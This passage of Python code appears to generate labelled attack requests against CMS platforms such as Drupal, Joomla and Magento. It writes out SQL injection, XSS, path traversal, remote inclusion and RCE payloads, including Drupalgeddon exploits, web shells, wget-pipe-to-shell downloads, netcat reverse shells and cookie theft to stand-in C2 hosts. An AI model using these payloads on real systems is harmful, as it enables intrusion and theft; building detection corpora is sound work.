    A(c, S, "typo3_tx_news", "GET", "/index.php?id=12&tx_news_pi1[overwriteDemand][order]=uid,(select%201%20from%20(select%20sleep(5))a)&tx_news_pi1[controller]=News&tx_news_pi1[action]=list", ah(host("typo3")))
    A(c, S, "typo3_indexed_search", "POST", "/suche", ah(host("typo3"), FORM),
      form([("tx_indexedsearch_pi2[search][sword]", "x' UNION SELECT username,password,3,4,5 FROM be_users#"), ("tx_indexedsearch_pi2[search][submitButton]", "Suchen")]))
    A(c, S, "umbraco_search", "GET", "/search?q=%27%3BWAITFOR%20DELAY%20%270%3A0%3A5%27--", ah(host("umbraco")))
    A(c, S, "sitecore_search", "GET", "/api/search?query=%27)%20OR%201%3D1%3B%20EXEC%20master..xp_cmdshell%20%27ping%20-n%203%2010.13.37.1%27--&page=1", ah(host("sitecore"), accept=ACCEPT_JSON))
    A(c, S, "drupal_search", "GET", "/search/node?keys=1%27%20UnIoN%20SeLeCt%201,2,concat(name,0x3a,pass)%20from%20users_field_data--%20-", ah(host("drupal")))
    A(c, S, "drupal_views", "GET", "/admin/content?title=%2527%2520OR%25201%253D1--%2520&type=All&status=All", ah(host("drupal"), cookie=ck_drupal()))
    A(c, S, "drupal_jsonapi", "GET", "/jsonapi/node/article?filter%5Bt%5D%5Bcondition%5D%5Bpath%5D=title&filter%5Bt%5D%5Bcondition%5D%5Bvalue%5D=x%27%20OR%20%271%27%3D%271&sort=title,(select%20sleep(5))", ah(host("drupal"), accept="application/vnd.api+json"))
    A(c, S, "drupal_rest", "POST", "/user/register?_format=json", ah(host("drupal"), "application/json", accept=ACCEPT_JSON),
      '{"name":[{"value":"adm\\u0027 AND 1=(SELECT COUNT(*) FROM users_field_data WHERE name=\\u0027admin\\u0027 AND SUBSTR(pass,1,1)=\\u0027$\\u0027)-- "}],"mail":[{"value":"a@b.co"}],"pass":[{"value":"x"}]}')
    A(c, S, "webform_email", "POST", "/form/contact", ah(host("drupal"), FORM),
      form([("name", "Ann"), ("email", "x@x.com' AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x71786a7071,(SELECT (ELT(1=1,1))),0x71))s), 8446744073709551610, 8446744073709551610)))-- Dxyz"),
            ("subject", "hi"), ("message", "hello"), ("form_id", "webform_submission_contact_add_form"), ("op", "Send message")]))
    A(c, S, "concrete_search", "POST", "/index.php/ccm/system/search/pages/submit", ah(host("concrete"), FORM, accept=ACCEPT_JSON, extra=[["X-Requested-With", "XMLHttpRequest"]]),
      "keywords=a%25%27%20AND%201%3D(SELECT%201%20FROM%20Users%20WHERE%20uName%3D%27admin%27%20AND%20uPassword%20LIKE%20%27%242y%25%27)%20AND%20%27%25%27%3D%27&ccm_token=1717000000:" + hexs(32))
    A(c, S, "shopify_proxy", "GET", "/apps/reviews/widget?shop=acme-outfitters.myshopify.com&product_id=7812000000001%20UNION%20SELECT%20NULL,shop_token,NULL%20FROM%20shops--&path_prefix=%2Fapps%2Freviews&timestamp=1717000000&signature=" + hexs(64),
      [["Host", host("shopify")], ["User-Agent", "Shopify Proxy"], ["Accept", "*/*"]])
    A(c, S, "umbraco_orderby", "GET", "/umbraco/api/news/list?page=1&orderBy=CreateDate%20DESC;IF(SYSTEM_USER%3D%27sa%27)%20WAITFOR%20DELAY%20%270:0:5%27--", ah(host("umbraco"), accept=ACCEPT_JSON))


# ---------------------------------------------------------------- XSS (stored and reflected, at the CMS's own injection points)

def x_drupal_node(p):
    h = host("drupal")
    nid = R.randint(1, 900)
    ctype, body = multipart([("changed", str(1717000000 + R.randint(0, 9000000))), ("title[0][value]", pick(TITLES)), ("form_build_id", form_build_id()), ("form_token", form_token()),
                             ("form_id", "node_article_edit_form"), ("body[0][value]", "<p>%s</p>%s" % (pick(PROSE), p)), ("body[0][format]", "full_html"), ("op", "Save")])
    return "POST", "/node/%d/edit" % nid, ah(h, ctype, cookie=ck_drupal()), body.decode()


def x_drupal_comment(p):
    h = host("drupal")
    return "POST", "/comment/reply/node/%d/comment" % R.randint(1, 900), ah(h, FORM), form([("name", "visitor"), ("mail", "v@mailinator.com"), ("subject[0][value]", "nice"),
                                                                                        ("comment_body[0][value]", p), ("comment_body[0][format]", "basic_html"), ("form_build_id", form_build_id()), ("form_id", "comment_comment_form"), ("op", "Save")])


def x_drupal_menu_title(p):
    h = host("drupal")
    return "POST", "/admin/structure/menu/manage/main/add", ah(h, FORM, cookie=ck_drupal()), form([("title[0][value]", p), ("link[0][uri]", "/node/1"), ("enabled[value]", "1"),
                                                                                                   ("menu_parent", "main:"), ("weight[0][value]", "0"), ("form_build_id", form_build_id()), ("form_token", form_token()),
                                                                                                   ("form_id", "menu_link_content_menu_link_content_form"), ("op", "Save")])


def x_drupal_menu_link(p):
    h = host("drupal")
    return "POST", "/admin/structure/menu/item/%d/edit" % R.randint(1, 90), ah(h, FORM, cookie=ck_drupal()), form([("title[0][value]", "Members' area"), ("link[0][uri]", p), ("enabled[value]", "1"),
                                                                                                                   ("form_build_id", form_build_id()), ("form_token", form_token()), ("form_id", "menu_link_content_menu_link_content_form"), ("op", "Save")])


def x_drupal_metatag(p):
    h = host("drupal")
    return "POST", "/node/%d/edit" % R.randint(1, 900), ah(h, FORM, cookie=ck_drupal()), form([("title[0][value]", pick(TITLES)), ("field_meta_tags[0][basic][title]", "[node:title] | [site:name]"),
                                                                                             ("field_meta_tags[0][basic][description]", p), ("form_build_id", form_build_id()), ("form_token", form_token()),
                                                                                             ("form_id", "node_article_edit_form"), ("op", "Save")])


def x_drupal_translate(p):
    h = host("drupal")
    return "POST", "/admin/config/regional/translate?langcode=de", ah(h, FORM, cookie=ck_drupal()), form([("string", "Read more"), ("langcode", "de"), ("strings[%d][translations][0]" % R.randint(1, 9000), p),
                                                                                                          ("form_build_id", form_build_id()), ("form_token", form_token()), ("form_id", "locale_translate_edit_form"), ("op", "Save translations")])


def x_joomla_article(p):
    h = host("joomla")
    return "POST", "/administrator/index.php?option=com_content&view=article&layout=edit&id=%d" % R.randint(1, 400), ah(h, FORM, cookie=ck_joomla()), form([
        ("jform[title]", pick(TITLES)), ("jform[articletext]", "<p>%s</p>%s" % (pick(PROSE), p)), ("jform[state]", "1"), ("jform[catid]", "9"), ("task", "article.apply"), (hexs(32), "1")])


def x_joomla_meta(p):
    h = host("joomla")
    return "POST", "/administrator/index.php?option=com_content&view=article&layout=edit&id=%d" % R.randint(1, 400), ah(h, FORM, cookie=ck_joomla()), form([
        ("jform[title]", pick(TITLES)), ("jform[metadesc]", p), ("jform[metadata][robots]", "index, follow"), ("task", "article.save"), (hexs(32), "1")])


def x_magento_cms(p):
    h = host("magento")
    return "POST", "/admin/cms/block/save/key/%s/" % hexs(64), ah(h, FORM, cookie="admin=" + tok(26, "abcdefghijklmnopqrstuv0123456789")), form([
        ("title", "Footer links"), ("identifier", "footer_links"), ("store_id[0]", "0"), ("is_active", "1"), ("content", "<div class=\"footer\">%s</div>" % p), ("form_key", tok(16))])


def x_magento_review(p):
    h = host("magento")
    return "POST", "/review/product/post/id/%d/" % R.randint(1, 3000), ah(h, FORM, cookie=ck_magento()), form([("ratings[4]", "20"), ("nickname", "Kim"), ("title", "Great"), ("detail", p)])


def x_magento_address(p):
    h = host("magento")
    addr = {"address": {"firstname": p, "lastname": "Smith", "street": ["1 Main St"], "city": "Austin", "region_id": 57, "country_id": "US", "postcode": "78701", "telephone": "5125550100"}}
    return "POST", "/rest/default/V1/guest-carts/%s/estimate-shipping-methods" % tok(32), ah(h, "application/json", accept="*/*"), jdump(addr)


def x_ghost_html(p):
    h = host("ghost")
    return "POST", "/ghost/api/admin/posts/?source=html", ah(h, "application/json", accept=ACCEPT_JSON, extra=[["Authorization", "Ghost " + jwt_like()]]), jdump({"posts": [{"title": pick(TITLES), "html": "<p>%s</p>%s" % (pick(PROSE), p), "status": "published"}]})


def x_ghost_lexical_escaped(p):
    h = host("ghost")
    lex = {"root": {"children": [{"type": "html", "version": 1, "html": p}], "direction": "ltr", "format": "", "indent": 0, "type": "root", "version": 1}}
    inner = json.dumps(lex, separators=(",", ":")).replace("<", "\\u003c").replace(">", "\\u003e")
    return "PUT", "/ghost/api/admin/posts/%s/" % hexs(24), ah(h, "application/json", accept=ACCEPT_JSON, cookie=ck_ghost()), json.dumps({"posts": [{"lexical": inner, "updated_at": "2024-06-11T10:00:00.000Z"}]})


def x_strapi(p):
    h = host("strapi")
    return "PUT", "/api/articles/%d" % R.randint(1, 400), ah(h, "application/json", accept=ACCEPT_JSON, extra=[["Authorization", "Bearer " + tok(200, "abcdef0123456789")]]), jdump({"data": {"title": pick(TITLES), "content": "Intro text.\n\n" + p}})


def x_directus_user(p):
    h = host("directus")
    return "PATCH", "/users/me", ah(h, "application/json", accept=ACCEPT_JSON, extra=[["Authorization", "Bearer " + tok(32, B64URL)]]), jdump({"first_name": p, "location": "Berlin"})


def x_craft(p):
    h = host("craft")
    return "POST", "/", ah(h, FORM, cookie=ck_craft()), form([("CRAFT_CSRF_TOKEN", hexs(64) + tok(40, B64URL)), ("action", "entries/save-entry"), ("sectionId", "2"), ("title", pick(TITLES)), ("fields[body]", p)])


def x_typo3(p):
    h = host("typo3")
    uid = R.randint(100, 9000)
    return "POST", "/typo3/record/commit?token=" + hexs(40), ah(h, FORM, cookie=ck_typo3(True)), form([("data[tt_content][%d][header]" % uid, "Info"), ("data[tt_content][%d][bodytext]" % uid, p), ("doSave", "1")])


def x_umbraco(p):
    h = host("umbraco")
    doc = {"id": R.randint(1000, 9000), "action": "publish", "variants": [{"name": "Home", "properties": [{"id": 3, "alias": "bodyText", "value": p}], "save": True, "publish": True}]}
    ctype, body = multipart([("contentItem", jdump(doc))])
    return "POST", "/umbraco/backoffice/UmbracoApi/Content/PostSave", ah(h, ctype, accept=ACCEPT_JSON, cookie=ck_umbraco()), body.decode()


def x_webform(p):
    h = host("drupal")
    return "POST", "/form/contact", ah(h, FORM), form([("name", "Dana"), ("email", "dana@mailinator.com"), ("subject", "Question"), ("message", p), ("form_id", "webform_submission_contact_add_form"), ("op", "Send message")])


def x_sanity(p):
    h = host("sanity")
    body = {"mutations": [{"patch": {"id": uuid4(), "set": {"body": [{"_type": "block", "_key": hexs(12), "markDefs": [{"_type": "link", "_key": "k1", "href": p}],
                                                                     "children": [{"_type": "span", "text": "Read more", "marks": ["k1"]}]}]}}}]}
    return "POST", "/v2021-06-07/data/mutate/production", ah("%s.api.sanity.io" % tok(8, "abcdefghijklmnopqrstuvwxyz0123456789"), "application/json", accept=ACCEPT_JSON, extra=[["Authorization", "Bearer sk" + tok(80)]]), jdump(body)


def attacks_xss(c):
    S = "xss"
    stored = [
        ("drupal_body", x_drupal_node, "<img src=x onerror=alert(document.domain)>"),
        ("drupal_body", x_drupal_node, "<iframe srcdoc=\"&lt;script&gt;parent.alert(document.domain)&lt;/script&gt;\"></iframe>"),
        ("drupal_body", x_drupal_node, "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>"),
        ("drupal_comment", x_drupal_comment, "<svg/onload=fetch('//xss.report/c/'+document.cookie)>"),
        ("drupal_comment", x_drupal_comment, "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
        ("drupal_menu_title", x_drupal_menu_title, "<script>alert(document.cookie)</script>"),
        ("drupal_menu_title", x_drupal_menu_title, "About<img src=1 onerror=this.src='//c2.evil-cdn.net/?'+document.cookie>"),
        ("drupal_menu_link", x_drupal_menu_link, "javascript:alert(document.cookie)"),
        ("drupal_menu_link", x_drupal_menu_link, "JaVaScRiPt:fetch('/user/1/edit').then(r=>r.text()).then(t=>navigator.sendBeacon('//evil-cdn.net',t))"),
        ("drupal_metatag", x_drupal_metatag, "\"><script src=//evil-cdn.net/x.js></script>"),
        ("drupal_translation", x_drupal_translate, "Weiterlesen<img src=x onerror=alert(1)>"),
        ("joomla_article", x_joomla_article, "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">Read more</a>"),
        ("joomla_article", x_joomla_article, "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5jb29raWUpPC9zY3JpcHQ+\"></object>"),
        ("joomla_meta", x_joomla_meta, "\" onfocus=\"alert(1)\" autofocus=\""),
        ("magento_cms_block", x_magento_cms, "<div data-bind=\"html: '<img src=x onerror=alert(document.domain)>'\"></div>"),
        ("magento_cms_block", x_magento_cms, "{{constructor.constructor('alert(1)')()}}<script>alert(1)</script>"),
        ("magento_review", x_magento_review, "<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>"),
        ("magento_review", x_magento_review, "<details open ontoggle=alert(1)>"),
        ("magento_address", x_magento_address, "<img src=x onerror=\"eval(atob('ZmV0Y2goJy8vZXZpbC1jZG4ubmV0Lz9jPScrZG9jdW1lbnQuY29va2llKQ=='))\">"),
        ("ghost_html", x_ghost_html, "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
        ("ghost_lexical", x_ghost_lexical_escaped, "<img src=x onerror=alert(document.cookie)>"),
        ("ghost_lexical", x_ghost_lexical_escaped, "<iframe src=\"javascript:alert(1)\"></iframe>"),
        ("strapi_markdown", x_strapi, "[Click me](javascript:alert(document.cookie))"),
        ("strapi_markdown", x_strapi, "![x](https://x.invalid/a.png\"onerror=\"alert(1))"),
        ("directus_profile", x_directus_user, "<input autofocus onfocus=alert(1)>"),
        ("craft_entry", x_craft, "<a href=\"jav&#x09;ascript:alert(1)\">click</a>"),
        ("craft_entry", x_craft, "<base href=\"//evil-cdn.net/\"><script src=\"/assets/app.js\"></script>"),
        ("typo3_bodytext", x_typo3, "<video><source onerror=\"javascript:alert(1)\"></video>"),
        ("umbraco_rte", x_umbraco, "<img src=x:x onerror=top[/al/.source+/ert/.source](1)>"),
        ("webform_message", x_webform, "<script>new Image().src=\"https://c2.evil-cdn.net/l?c=\"+encodeURIComponent(document.cookie)</script>"),
        ("webform_message", x_webform, "</textarea><script>alert(1)</script>"),
        ("sanity_link", x_sanity, "javascript:alert(document.domain)"),
        ("drupal_body", x_drupal_node, "<form action=javascript:alert(1)><input type=submit value=Login></form>"),
        ("joomla_article", x_joomla_article, "<xss id=x tabindex=1 onfocusin=alert(1)></xss>"),
    ]
    for sub, fn, payload in stored:
        m, u, hd, b = fn(payload)
        A(c, S, sub, m, u, hd, b)

    # reflected: search pages and parameters echoed by themes
    A(c, S, "reflected_search", "GET", "/search/node?keys=%22%3E%3Csvg%20onload%3Dalert(1)%3E", ah(host("drupal")))
    A(c, S, "reflected_search", "GET", "/index.php?option=com_search&searchword=%3Cscript%3Ealert(1)%3C%2Fscript%3E&searchphrase=all", ah(host("joomla")))
    A(c, S, "reflected_search", "GET", "/catalogsearch/result/?q=%27%3Balert(document.cookie)%2F%2F", ah(host("magento")))
    A(c, S, "reflected_search", "GET", "/search?q=%253Csvg%2520onload%253Dalert(1)%253E", ah(host("craft")))
    A(c, S, "reflected_search", "GET", "/suche?tx_indexedsearch_pi2%5Bsearch%5D%5Bsword%5D=%3Cmarquee%20onstart%3Dalert(1)%3E", ah(host("typo3")))
    A(c, S, "reflected_views_ajax", "GET", "/views/ajax?_wrapper_format=drupal_ajax&view_name=content&view_display_id=page_1&view_dom_id=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", ah(host("drupal"), accept=ACCEPT_JSON))
    A(c, S, "reflected_destination", "GET", "/user/login?destination=javascript:alert(document.domain)//", ah(host("drupal")))
    A(c, S, "reflected_sitecore", "GET", "/sitecore/shell/Applications/Content%20Manager/default.aspx?fo=%22%3E%3Cx%20onpointerenter%3Dalert(1)%3Ehover", ah(host("sitecore")))
    A(c, S, "reflected_shopify_proxy", "GET", "/apps/wishlist/widget?shop=acme-outfitters.myshopify.com&path_prefix=%2Fapps%2Fwishlist%22%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E&timestamp=1717000000&signature=" + hexs(64), ah(host("shopify")))

    # SVG uploads to media libraries
    svg1 = '<?xml version="1.0" standalone="no"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="200" height="200" viewBox="0 0 200 200">\n  <rect width="200" height="200" fill="#2a9d8f"/>\n  <script type="text/javascript">alert(document.domain);</script>\n</svg>\n'
    svg2 = '<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'https://c2.evil-cdn.net/s\',{method:\'POST\',body:document.cookie})"><circle cx="50" cy="50" r="40" fill="red"/></svg>'
    svg3 = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert(1)"><text x="20" y="20">logo</text></a><foreignObject width="100" height="50"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:alert(2)"></iframe></body></foreignObject></svg>'
    ctype, body = multipart([("files[upload][]", svg1, "logo.svg", "image/svg+xml"), ("form_build_id", form_build_id()), ("form_token", form_token()), ("form_id", "media_library_add_form_upload"),
                             ("_triggering_element_name", "files[upload]"), ("_drupal_ajax", "1")])
    A(c, S, "svg_upload", "POST", "/media-library?_wrapper_format=drupal_ajax&media_library_opener_id=media_library.opener.editor&media_library_allowed_types%5Bimage%5D=image&media_library_selected_type=image&media_library_remaining=1&ajax_form=1&element_parents=upload",
      ah(host("drupal"), ctype, cookie=ck_drupal(), accept=ACCEPT_JSON, extra=[["X-Requested-With", "XMLHttpRequest"]]), body)
    ctype, body = multipart([("files", svg2, "avatar.svg", "image/svg+xml"), ("fileInfo", jdump({"name": "avatar.svg", "alternativeText": "avatar"}))], style="node")
    A(c, S, "svg_upload", "POST", "/api/upload", ah(host("strapi"), ctype, accept=ACCEPT_JSON, extra=[["Authorization", "Bearer " + tok(200, "abcdef0123456789")]]), body)
    ctype, body = multipart([("folder", uuid4()), ("file", svg3, "brand-mark.svg", "image/svg+xml")])
    A(c, S, "svg_upload", "POST", "/files", ah(host("directus"), ctype, accept=ACCEPT_JSON, extra=[["Authorization", "Bearer " + tok(32, B64URL)]]), body)
    ctype, body = multipart([("Filedata", fake_png(120), "\"><img src=x onerror=alert(document.domain)>.png", "image/png"), ("folder", "local-images:/banners")])
    AR(c, S, "upload_filename", "POST", "/administrator/index.php?option=com_media&task=api.files&format=json&path=local-images:/banners&%s=1" % hexs(32),
       ah(host("joomla"), ctype, cookie=ck_joomla(), accept=ACCEPT_JSON), body)

    # stored via request headers rendered in admin log viewers (Drupal dblog, Magento admin notifications)
    A(c, S, "log_header", "GET", "/node/%d" % R.randint(1, 900), [["Host", host("drupal")], ["User-Agent", "<img src=x onerror=alert(document.cookie)>"], ["Accept", "*/*"], ["Referer", "https://www.google.com/"]])
    A(c, S, "log_header", "GET", "/this-page-does-not-exist-%d" % R.randint(1, 99), [["Host", host("drupal")], ["User-Agent", aua()], ["Accept", "*/*"], ["Referer", "https://x.example/\"><script>alert(1)</script>"]])


# ---------------------------------------------------------------- LFI / path traversal

def attacks_lfi(c):
    S = "lfi"
    img = ACCEPT_IMG
    A(c, S, "drupal_image_style", "GET", "/sites/default/files/styles/thumbnail/public/..%2F..%2F..%2F..%2F..%2Fetc%2Fpasswd?itok=" + itok(), ah(host("drupal"), accept=img))
    A(c, S, "drupal_image_style", "GET", "/sites/default/files/styles/large/public/..%252f..%252f..%252fsettings.php?itok=" + itok(), ah(host("drupal"), accept=img))
    A(c, S, "drupal_image_style", "GET", "/sites/default/files/styles/medium/private/../../../../sites/default/settings.local.php?itok=" + itok(), ah(host("drupal"), accept=img))
    A(c, S, "drupal_private_files", "GET", "/system/files?file=../../../../../../etc/passwd", ah(host("drupal")))
    A(c, S, "drupal_private_files", "GET", "/system/files/..%5C..%5C..%5Csites%5Cdefault%5Csettings.php", ah(host("drupal")))
    A(c, S, "drupal_private_files", "GET", "/?q=system/files/%2e%2e/%2e%2e/%2e%2e/sites/default/settings.php", ah(host("drupal")))
    A(c, S, "webform_file", "GET", "/webform/contact/submissions/%d/file/..%%2F..%%2F..%%2F..%%2F..%%2Fetc%%2Fshadow" % R.randint(1, 500), ah(host("drupal"), cookie=ck_drupal()))
    A(c, S, "joomla_controller", "GET", "/index.php?option=com_jimtawl&Itemid=12&task=../../../../../../../../../../etc/passwd%00", ah(host("joomla")))
    A(c, S, "joomla_controller", "GET", "/index.php?option=com_ckforms&controller=../../../../../../../../../../../../proc/self/environ%00", ah(host("joomla")))
    A(c, S, "joomla_layout", "GET", "/index.php?option=com_content&view=article&id=1&layout=....//....//....//....//configuration", ah(host("joomla")))
    A(c, S, "joomla_media_api", "GET", "/api/index.php/v1/media/files/local-images:/..%2F..%2Fconfiguration.php", ah(host("joomla"), accept="application/vnd.api+json", extra=[["X-Joomla-Token", "c2hhMjU2OjI6" + tok(60, B64URL)]]))
    A(c, S, "joomla_template_file", "GET", "/administrator/index.php?option=com_templates&view=template&id=506&file=" + base64.b64encode(b"/../../../configuration.php").decode().rstrip("="), ah(host("joomla"), cookie=ck_joomla()))
    A(c, S, "magento_static", "GET", "/pub/static/..%2F..%2Fapp%2Fetc%2Fenv.php", ah(host("magento")))
    A(c, S, "magento_media", "GET", "/media/..%c0%af..%c0%afapp%c0%afetc%c0%aflocal.xml", ah(host("magento")))
    A(c, S, "magento_magmi", "GET", "/magmi/web/download_file.php?file=../../app/etc/local.xml", ah(host("magento")))
    A(c, S, "typo3_file_edit", "GET", "/typo3/index.php?route=%2Ffile%2Fedit&token=" + hexs(40) + "&target=1%3A%2F..%2F..%2Ftypo3conf%2FLocalConfiguration.php", ah(host("typo3"), cookie=ck_typo3(True)))
    A(c, S, "typo3_jumpurl", "GET", "/index.php?jumpurl=typo3conf/localconf.php&juSecure=1&type=0&locationData=1:", ah(host("typo3")))
    A(c, S, "sitecore_bundle", "GET", "/-/speak/v1/bundles/bundle.js?f=/sitecore/shell/client/Speak/Assets/lib/core/1.1/../../../../../../../../Web.config", ah(host("sitecore"), accept="*/*"))
    A(c, S, "umbraco_resize", "GET", "/umbraco/backoffice/UmbracoApi/Images/GetBigThumbnail?originalImagePath=..%5C..%5C..%5Cweb.config", ah(host("umbraco"), cookie=ck_umbraco()))
    A(c, S, "directus_assets", "GET", "/assets/..%2f..%2f..%2f..%2fetc%2fpasswd", ah(host("directus")))
    A(c, S, "strapi_uploads", "GET", "/uploads/%2e%2e%2f%2e%2e%2f%2e%2e%2f.env", ah(host("strapi")))
    A(c, S, "ghost_image_size", "GET", "/content/images/size/w600/..%2f..%2f..%2f..%2fconfig.production.json", ah(host("ghost"), accept=img))
    A(c, S, "craft_cpresources", "GET", "/cpresources/%s/..%%2F..%%2F..%%2F..%%2F.env" % hexs(8), ah(host("craft")))
    A(c, S, "concrete_tools", "GET", "/index.php/tools/required/files/download?file=..%u2215..%u2215..%u2215application%u2215config%u2215database.php", ah(host("concrete")))
    A(c, S, "template_param", "GET", "/index.php?option=com_content&view=category&id=8&tmpl=..\\..\\..\\..\\windows\\win.ini", ah(host("joomla")))
    A(c, S, "download_param", "GET", "/download.php?file=%2fvar%2fwww%2fhtml%2fsites%2fdefault%2ffiles%2f..%2f..%2f..%2f..%2f..%2f..%2fproc%2fself%2fcwd%2f.env", ah(host("drupal")))
    A(c, S, "decap_config", "GET", "/admin/?config=..%2F..%2F..%2F..%2Fetc%2Fpasswd", ah(host("netlify")))


# ---------------------------------------------------------------- RFI

def attacks_rfi(c):
    S = "rfi"
    A(c, S, "joomla_legacy_component", "GET", "/components/com_artlinks/artlinks.dispnew.php?mosConfig_absolute_path=http://185.225.19.77/sh3ll.txt?", ah(host("joomla")))
    A(c, S, "joomla_legacy_component", "GET", "/administrator/components/com_joomlaradiov5/admin.joomlaradiov5.php?mosConfig_live_site=https://pastebin.com/raw/Xy7zQ2bW%3f", ah(host("joomla")))
    A(c, S, "joomla_controller", "GET", "/index.php?option=com_mygallery&controller=http://paste.ee/r/aB3dE%00", ah(host("joomla")))
    A(c, S, "typo3_back_path", "GET", "/typo3conf/ext/jumpurl/pi1/class.tx_jumpurl.php?GLOBALS[BACK_PATH]=ftp://anonymous@45.95.147.12/pub/r57.txt?", ah(host("typo3")))
    A(c, S, "drupal_theme_path", "GET", "/index.php?q=node/1&theme_path=http://evil-cdn.net/c99.txt%3f", ah(host("drupal")))
    A(c, S, "concrete_dir_base", "GET", "/concrete/libraries/3rdparty/adodb/adodb.inc.php?DIR_BASE=HtTp://103.56.17.4/r.txt??", ah(host("concrete")))
    A(c, S, "include_data_uri", "GET", "/index.php?option=com_content&view=article&id=1&layout=data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==", ah(host("joomla")))
    A(c, S, "unc_include", "GET", "/index.php?page=%5C%5C185.225.19.77%5Cshare%5Cshell.php", ah(host("concrete")))
    A(c, S, "decimal_ip_include", "GET", "/modules/mod_mainmenu/menu.php?base_path=http://3114011437/webshell.txt?&cmd=id", ah(host("joomla")))
    A(c, S, "craft_template", "POST", "/", ah(host("craft"), FORM, cookie=ck_craft()),
      form([("action", "templates/render"), ("template", "https://raw.githubusercontent.com/attacker-user/x/main/evil.twig"), ("CRAFT_CSRF_TOKEN", hexs(64))]))


# ---------------------------------------------------------------- RCE

def attacks_rce(c):
    S = "rce"
    ajax_hd = lambda h: ah(h, FORM, accept="application/json, text/javascript, */*; q=0.01", extra=[["X-Requested-With", "XMLHttpRequest"]])
    # Drupalgeddon 2 (CVE-2018-7600), Drupal 8 user/register
    A(c, S, "drupalgeddon2", "POST", "/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax", ajax_hd(host("drupal")),
      "form_id=user_register_form&_drupal_ajax=1&mail[#post_render][]=exec&mail[#type]=markup&mail[#markup]=echo+%22%3B-)%22+%7C+tee+hello.txt")
    A(c, S, "drupalgeddon2", "POST", "/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax", ajax_hd(host("drupal")),
      "form_id=user_register_form&_drupal_ajax=1&mail%5B%23post_render%5D%5B%5D=passthru&mail%5B%23type%5D=markup&mail%5B%23markup%5D=wget+-qO-+http%3A%2F%2F45.95.147.12%2Fd.sh+%7C+sh")
    A(c, S, "drupalgeddon2", "POST", "/user/register?element_parents=timezone/timezone/%23value&ajax_form=1&_wrapper_format=drupal_ajax", ajax_hd(host("drupal")),
      "form_id=user_register_form&_drupal_ajax=1&timezone[a][#lazy_builder][]=passthru&timezone[a][#lazy_builder][][]=id;uname+-a")
    A(c, S, "drupalgeddon2", "POST", "/user/register?element_parents=account%2Fmail%2F%2523value&ajax_form=1&_wrapper_format=drupal_ajax", ajax_hd(host("drupal")),
      "form_id=user_register_form&_drupal_ajax=1&mail%5B%2523post_render%5D%5B%5D=system&mail%5B%2523type%5D=markup&mail%5B%2523markup%5D=curl%20-s%20http%3A%2F%2F103.56.17.4%2Fx%7Cbash")
    ctype, body = multipart([("form_id", "user_register_form"), ("_drupal_ajax", "1"), ("mail[#post_render][]", "shell_exec"), ("mail[#type]", "markup"),
                             ("mail[#markup]", "echo PD9waHAgQGV2YWwoJF9QT1NUWydjJ10pOw== | base64 -d > sites/default/files/.x.php")])
    A(c, S, "drupalgeddon2", "POST", "/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax",
      ah(host("drupal"), ctype, accept=ACCEPT_JSON, extra=[["X-Requested-With", "XMLHttpRequest"]]), body)
    # Drupal 7 variant: user/password, then file/ajax
    A(c, S, "drupalgeddon2_d7", "POST", "/?q=user/password&name[%23post_render][]=passthru&name[%23type]=markup&name[%23markup]=id", ah(host("drupal"), FORM),
      "form_id=user_pass&_triggering_element_name=name&_triggering_element_value=&opz=E-mail+new+Password")
    A(c, S, "drupalgeddon2_d7", "POST", "/?q=user%2Fpassword&name%5B%23post_render%5D%5B%5D=assert&name%5B%23type%5D=markup&name%5B%23markup%5D=file_put_contents%28%27sites%2Fdefault%2Ffiles%2Fx.php%27%2Cbase64_decode%28%27PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOw%3D%3D%27%29%29", ah(host("drupal"), FORM),
      "form_id=user_pass&_triggering_element_name=name")
    A(c, S, "drupalgeddon2_d7", "POST", "/?q=file/ajax/name/%23value/" + form_build_id(), ah(host("drupal"), FORM), "form_build_id=" + form_build_id())
    # Drupalgeddon 3 (CVE-2018-7602)
    A(c, S, "drupalgeddon3", "POST", "/?q=node/99/delete&destination=node?q[%2523post_render][]=passthru%26q[%2523type]=markup%26q[%2523markup]=whoami", ah(host("drupal"), FORM, cookie=ck_drupal()),
      "form_id=node_delete_confirm&_triggering_element_name=form_id&form_token=" + form_token())
    A(c, S, "drupalgeddon3", "POST", "/?q=user/3/cancel&destination=user%3Fq%5B%2523post_render%5D%5B%5D%3Dsystem%26q%5B%2523type%5D%3Dmarkup%26q%5B%2523markup%5D%3Dcat%2520%252Fetc%252Fpasswd", ah(host("drupal"), FORM, cookie=ck_drupal()),
      "form_id=user_cancel_confirm_form&form_token=%s&_triggering_element_name=form_id&op=Cancel+account" % form_token())
    A(c, S, "drupal_render_array", "POST", "/node/%d/edit" % R.randint(1, 900), ah(host("drupal"), FORM, cookie=ck_drupal()),
      "title[0][value]=x&body[0][value][#pre_render][]=system&body[0][value][#markup]=nc+-e+/bin/sh+10.13.37.1+4444&form_id=node_article_edit_form&op=Save")

    # Strapi plugin install (CVE-2019-19609)
    A(c, S, "strapi_plugin_install", "POST", "/admin/plugins/install", ah(host("strapi"), "application/json", accept=ACCEPT_JSON, extra=[["Authorization", "Bearer " + jwt_like()]]),
      jdump({"plugin": "documentation && $(rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.13.37.1 4444 >/tmp/f)", "port": "1337"}))
